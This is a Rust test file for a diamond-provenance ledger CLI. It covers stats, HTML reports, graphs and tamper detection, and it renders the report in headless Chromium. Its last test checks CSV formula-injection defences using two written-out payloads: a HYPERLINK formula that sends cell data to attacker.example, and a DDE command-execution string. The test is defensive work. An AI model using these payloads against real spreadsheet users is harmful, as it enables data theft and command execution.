//! Regulator reports through the CLI: `kpledger stats`, `report --html`, `graph`, the red
//! flags in `verify` and `rules`, the files the demo writes; and the demo's HTML report
//! rendered in headless Chromium: a screenshot (target/report/demo-report.png, named in the
//! README), no console message, and the provenance graphs and charts present and not empty.
//!
//! Chromium is Debian's `chromium`. `.ci/run` installs it and sets
//! `KPLEDGER_REQUIRE_BROWSER=1`, so CI fails without it; elsewhere, without chromium, the
//! browser test says it was skipped and passes.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::util::{TempDir, licence_2026, site_in_sl};

fn demo(dir: &Path, parcels: Option<&str>) {
    let mut cmd = kp!("demo", dir);
    if let Some(n) = parcels {
        cmd = cmd.arg("--parcels").arg(n);
    }
    let run = cmd.run();
    run.ok().stdout_has("report.html").stdout_has("ST-1").stdout_has("statistical red flag");
    for f in ["report.html", "stats.txt", "stats.json", "stats.csv"] {
        assert!(dir.join(f).is_file(), "the demo writes {f}\n{run}");
    }
}

#[test]
fn stats_report_graph_and_red_flags_through_the_cli() {
    let tmp = TempDir::new("report-cli");
    let dir = tmp.join("demo");
    demo(&dir, Some("8"));
    let ledger = dir.join("ledger.kpl");

    // Statistics: Annex III table, JSON, CSV; red flags are warnings (exit 0).
    kp!("stats", "--ledger", &ledger, "--period", "2026-Q1")
        .run()
        .ok()
        .stdout_has("PRODUCTION by country of origin")
        .stdout_has("IMPORTS by importing country")
        .stdout_has("warning ST-1");
    let json = kp!("stats", "--ledger", &ledger, "--period", "2026-H1", "--json").run().ok().json();
    assert_eq!(json["format"], "kpledger/stats/v1");
    assert_eq!(json["period"]["from"], "2026-01-01");
    assert_eq!(json["red_flags"][0]["code"], "ST-1");
    let csv = kp!("stats", "--ledger", &ledger, "--csv").run();
    csv.ok();
    assert!(csv.stdout.starts_with("section,country,region,site,hs_code,partner,origin,"), "{csv}");
    assert!(csv.stdout.contains("\r\nimports,SL,,,7102.10,LR,LR,1,,142.03,"), "{csv}");
    let empty = kp!("stats", "--ledger", &ledger, "--from", "2025-01-01", "--to", "2025-12-31").run();
    empty.ok().stdout_has("no production recorded").stdout_has("RED FLAGS: none");
    kp!("stats", "--ledger", &ledger, "--period", "2026-Q5").run().cannot_run(&["is not a period"]);
    kp!("stats", "--ledger", &ledger, "--from", "2026-04-01", "--to", "2026-03-01")
        .run()
        .cannot_run(&["before"]);
    kp!("stats", "--ledger", tmp.join("nothing.kpl")).run().code(2);

    // verify --red-flags shows the red flags like the rules' warnings; still verified (exit 0).
    let v = kp!("verify", "--ledger", &ledger, "--red-flags", "--json").run();
    let report = v.ok().json();
    assert_eq!(report["ok"], true);
    let codes: Vec<&str> =
        report["findings"].as_array().unwrap().iter().map(|f| f["code"].as_str().unwrap()).collect();
    assert!(codes.contains(&"ST-1") && codes.contains(&"MB-3"), "{v}");
    assert_eq!(report["warnings"].as_u64(), Some(codes.len() as u64));
    kp!("verify", "--ledger", &ledger, "--red-flags")
        .run()
        .ok()
        .stdout_has("VERIFIED")
        .stdout_has("warning ST-1");
    // Without --red-flags, verification is the rules alone (memory bounded by open parcels).
    let plain = kp!("verify", "--ledger", &ledger, "--json").run().ok().json();
    assert!(!plain["findings"].as_array().unwrap().iter().any(|f| f["code"] == "ST-1"), "{plain}");
    let rules = kp!("rules").run();
    for code in ["ST-1", "ST-2", "ST-3", "ST-4", "ST-5", "SW-1"] {
        rules.ok().stdout_has(code);
    }

    // The HTML report of the ledger and of one bundle; never over an existing file.
    let out = tmp.join("report.html");
    kp!("report", "--html", &out, "--ledger", &ledger).run().ok().stdout_has("regulator report");
    let html = std::fs::read_to_string(&out).unwrap();
    assert!(html.starts_with("<!DOCTYPE html>") && html.contains("VERIFIED") && html.contains("ST-1"));
    kp!("report", "--html", &out, "--ledger", &ledger).run().cannot_run(&["does not overwrite"]);
    let bundle_html = tmp.join("ci.html");
    kp!(
        "report",
        "--html",
        &bundle_html,
        "--bundle",
        dir.join("bundles/CI-2026-000009.json"),
        "--policy",
        dir.join("trust-policy.txt")
    )
    .run()
    .ok();
    let b = std::fs::read_to_string(&bundle_html).unwrap();
    assert!(b.contains("CI-2026-000009") && b.contains("ST-1") && b.contains("evidence bundle"));
    assert!(
        b.contains("ci.sprpk, gn.mines, lr.mme, sl.nma") || b.contains("sl.nma, lr.mme, gn.mines, ci.sprpk"),
        "the verified witnesses are named"
    );
    // Under a policy that requires no witness, the cosignature lines are by no key the
    // importer trusts: no witness is named, and the banner says the verdict is unwitnessed.
    let unwitnessed = tmp.join("unwitnessed-policy.txt");
    let text = std::fs::read_to_string(dir.join("trust-policy.txt")).unwrap();
    let kept: Vec<&str> = text
        .lines()
        .filter(|l| !l.starts_with("witness ") && !l.starts_with("group ") && !l.starts_with("quorum "))
        .collect();
    std::fs::write(&unwitnessed, format!("{}\nquorum none\n", kept.join("\n"))).unwrap();
    let plain_html = tmp.join("ci-unwitnessed.html");
    kp!(
        "report",
        "--html",
        &plain_html,
        "--bundle",
        dir.join("bundles/CI-2026-000009.json"),
        "--policy",
        &unwitnessed
    )
    .run()
    .ok();
    let u = std::fs::read_to_string(&plain_html).unwrap();
    assert!(
        u.contains("id=\"witness-banner\"") && u.contains("LOG-4"),
        "the banner says it is not witnessed"
    );
    assert!(
        u.contains("<b>no witness</b>") && !u.contains("lr.mme,"),
        "names on unverified lines are not shown"
    );
    kp!("report", "--html", tmp.join("x.html")).run().code(2);

    // The provenance graph alone.
    let dot = kp!("graph", "SL-2026-004312", "--ledger", &ledger, "--format", "dot").run();
    dot.ok();
    assert!(dot.stdout.starts_with("digraph provenance {") && dot.stdout.contains("MINE SITE"), "{dot}");
    let svg = kp!("graph", "SL-2026-004312", "--ledger", &ledger).run();
    svg.ok();
    assert!(svg.stdout.starts_with("<svg") && svg.stdout.contains("</svg>"), "{svg}");
    kp!("graph", "SL-2026-999999", "--ledger", &ledger).run().cannot_run(&["is not in this ledger"]);
    let parcel: String = {
        let c = rusqlite::Connection::open(&ledger).unwrap();
        c.query_row("SELECT min(id) FROM parcels", [], |r| r.get(0)).unwrap()
    };
    let one = kp!("graph", &parcel, "--ledger", &ledger, "--format", "dot").run();
    one.ok().stdout_has("MINE SITE").stdout_has(&parcel[parcel.len() - 12..]);

    // A ledger edited behind kpledger's back: the report is still written, says FAILED
    // with the finding, and the exit code is 1.
    {
        let c = rusqlite::Connection::open(&ledger).unwrap();
        let n = c
            .execute(
                "UPDATE parcels SET weight_pt = weight_pt + 1 WHERE id = (SELECT min(id) FROM parcels)",
                [],
            )
            .unwrap();
        assert_eq!(n, 1);
    }
    let failed = tmp.join("failed.html");
    kp!("report", "--html", &failed, "--ledger", &ledger).run().code(1).stdout_has("regulator report");
    let html = std::fs::read_to_string(&failed).unwrap();
    assert!(html.contains("FAILED") && html.contains("DB-1"), "the report says why it failed");
}

/// Where the screenshot goes: target/report/demo-report.png.
fn screenshot_path() -> PathBuf {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).parent().unwrap().to_owned();
    target.join("report").join("demo-report.png")
}

fn chromium() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path).map(|d| d.join("chromium")).find(|p| p.is_file())
}

/// Runs headless Chromium on `url` with `args`; returns (stdout, stderr).
fn browse(browser: &Path, profile: &Path, args: &[&str], url: &str) -> (String, String) {
    let mut child = Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .arg(url)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start {}: {e}", browser.display()));
    // Read both pipes while the browser runs: --dump-dom writes more than a pipe holds.
    let reader = |mut r: Box<dyn std::io::Read + Send>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = r.read_to_end(&mut buf);
            String::from_utf8_lossy(&buf).into_owned()
        })
    };
    let stdout = reader(Box::new(child.stdout.take().unwrap()));
    let stderr = reader(Box::new(child.stderr.take().unwrap()));
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(120) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("chromium did not finish within 120 s (killed); its helpers may still hold the pipes");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    (stdout.join().unwrap(), stderr.join().unwrap())
}

/// The console messages Chromium logged (`--enable-logging=stderr`): `…:CONSOLE…` lines and
/// uncaught exceptions.
fn console(stderr: &str) -> Vec<&str> {
    stderr.lines().filter(|l| l.contains(":CONSOLE") || l.contains("Uncaught")).collect()
}

#[test]
fn demo_report_renders_in_headless_chromium() {
    let Some(browser) = chromium() else {
        if std::env::var_os("KPLEDGER_REQUIRE_BROWSER").is_some_and(|v| v == "1") {
            panic!("chromium is not installed, and KPLEDGER_REQUIRE_BROWSER=1: apt-get install -y chromium");
        }
        eprintln!("skipped: chromium not installed; .ci/run installs it");
        return;
    };
    let tmp = TempDir::new("report-browser");
    let dir = tmp.join("demo");
    demo(&dir, None);
    let page = dir.join("report.html");
    let url = format!("file://{}", page.display());

    // The screenshot, for people: the README says where it is.
    let shot = screenshot_path();
    std::fs::create_dir_all(shot.parent().unwrap()).unwrap();
    let _ = std::fs::remove_file(&shot);
    let (_, err) = browse(
        &browser,
        &tmp.join("profile-shot"),
        &[&format!("--screenshot={}", shot.display()), "--window-size=1280,2400"],
        &url,
    );
    let png =
        std::fs::read(&shot).unwrap_or_else(|e| panic!("no screenshot at {} ({e})\n{err}", shot.display()));
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n", "the screenshot is a PNG");
    let (w, h) = (
        u32::from_be_bytes(png[16..20].try_into().unwrap()),
        u32::from_be_bytes(png[20..24].try_into().unwrap()),
    );
    assert_eq!((w, h), (1280, 2400));
    assert!(png.len() > 50_000, "a screenshot of a full report is not {} bytes", png.len());
    eprintln!("screenshot of the demo's report: {}", shot.display());

    // The page as the browser built it: no console message, graphs and charts drawn.
    let (dom, err) =
        browse(&browser, &tmp.join("profile-dom"), &["--enable-logging=stderr", "--v=0", "--dump-dom"], &url);
    let messages = console(&err);
    assert!(messages.is_empty(), "console messages while loading the report:\n{}", messages.join("\n"));
    assert!(dom.contains("id=\"verdict\"") && dom.contains("VERIFIED"), "the verdict is on the page");
    let doc = scraper::Html::parse_document(&dom);
    let sel = |s: &str| scraper::Selector::parse(s).unwrap();
    let graphs: Vec<_> = doc.select(&sel(".graph svg")).collect();
    assert_eq!(graphs.len(), 4, "one provenance graph per certificate");
    for g in graphs {
        assert!(g.select(&sel("rect")).count() >= 5 && g.select(&sel("path")).count() >= 4, "an empty graph");
        assert!(g.text().any(|t| t.ends_with(" ct")), "a graph without carats");
    }
    for id in ["#chart-volumes svg", "#chart-values svg"] {
        let c = doc.select(&sel(id)).next().unwrap_or_else(|| panic!("no {id} in the page"));
        assert!(c.select(&sel("rect")).count() >= 4 && c.select(&sel("text")).count() >= 4, "{id} is empty");
    }

    // Each provenance graph's panel is sized to its graph (issue 15, item 9): the report has
    // no script, so a copy of it gets one that measures, in the browser's layout, the empty
    // space between the bottom of what the graph draws and the bottom of its panel.
    let html = std::fs::read_to_string(&page).unwrap();
    let measure = r#"<script>
const gaps = [];
for (const panel of document.querySelectorAll('.graph')) {
  const svg = panel.querySelector('svg');
  const drawn = svg.getBBox();
  const box = svg.getBoundingClientRect();
  const scale = box.height / svg.viewBox.baseVal.height;
  const bottom = box.top + (drawn.y + drawn.height) * scale;
  gaps.push(Math.round(panel.getBoundingClientRect().bottom - bottom));
}
document.body.setAttribute('data-gaps', gaps.join(','));
</script></body>"#;
    let measured = tmp.join("measured.html");
    std::fs::write(&measured, html.replacen("</body>", measure, 1)).unwrap();
    let (dom, _) = browse(
        &browser,
        &tmp.join("profile-measure"),
        &["--dump-dom", "--window-size=1280,2400"],
        &format!("file://{}", measured.display()),
    );
    let gaps: Vec<i64> = dom
        .split_once("data-gaps=\"")
        .and_then(|(_, rest)| rest.split_once('"'))
        .map(|(v, _)| v.split(',').map(|n| n.parse().unwrap()).collect())
        .unwrap_or_else(|| panic!("the measuring script did not run:\n{dom}"));
    assert_eq!(gaps.len(), 4, "one measured panel per graph");
    for g in &gaps {
        assert!(
            (0..=40).contains(g),
            "a graph panel has {g} px of empty space below its graph (all: {gaps:?})"
        );
    }

    // The console check is not vacuous: a page that logs is caught.
    let bad = tmp.join("bad.html");
    std::fs::write(&bad, "<!DOCTYPE html><title>x</title><script>console.error('boom')</script>").unwrap();
    let (_, err) = browse(
        &browser,
        &tmp.join("profile-bad"),
        &["--enable-logging=stderr", "--v=0", "--dump-dom"],
        &format!("file://{}", bad.display()),
    );
    assert!(!console(&err).is_empty(), "a console.error went unnoticed:\n{err}");
}

/// Issue 14, item 8: a mine site's region written as a spreadsheet formula reached
/// `stats --csv` as is; a spreadsheet would run it (`=HYPERLINK` sends the sheet's cells to
/// the attacker when clicked). Every text cell beginning with `=`, `+`, `-`, `@`, tab or CR
/// gets a leading quote; numbers stay numbers. The variant: a region that starts with `@`.
#[test]
fn stats_csv_neutralises_formula_cells() {
    let t = crate::util::Trade::new("csv-formula");
    let attack = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Kono\")";
    for (n, region) in [attack, "@SUM(1+1)*cmd|' /C calc'!A0"].into_iter().enumerate() {
        let site = format!("sl.kono.claim-{n}");
        let key = t.dir.join(format!("miner-{n}.pem"));
        kp!("key", "new", &key).run().ok();
        signed!(t, &t.nma, "site", "add").args(site_in_sl(&site, "Claim", region)).run().ok();
        signed!(
            t,
            &t.nma,
            "actor",
            "enrol",
            "--id",
            format!("sl.miner.m{n}"),
            "--name",
            format!("Miner {n}"),
            "--role",
            "miner",
            "--country",
            "SL",
            "--pubkey",
            crate::util::pub_of(&key),
            "--site",
            &site
        )
        .args(licence_2026(&format!("NMA/AM/2026/90{n}"), "artisanal"))
        .run()
        .ok();
        signed!(t, &key, "extract", "--site", &site, "--weight", "1.25", "--stones", "3", "--hs", "7102.31")
            .run()
            .ok();
    }
    let csv =
        kp!("stats", "--ledger", &t.ledger, "--from", "2026-01-01", "--to", "2026-12-31", "--csv").run();
    csv.ok();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(csv.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let regions: Vec<&str> = rows.iter().map(|r| &r[2]).filter(|r| !r.is_empty()).collect();
    csv.check(regions.contains(&format!("'{attack}").as_str()), "the formula region should be quoted");
    csv.check(regions.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0"), "the @ region should be quoted");
    for r in &rows {
        for cell in r.iter() {
            csv.check(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                &format!("cell {cell:?} is a formula"),
            );
        }
        // The numeric columns are numbers.
        for i in 7..=11 {
            let number = r[i].chars().all(|c| c.is_ascii_digit() || c == '.');
            csv.check(number, &format!("column {i} of {r:?} is not a number"));
        }
    }
}
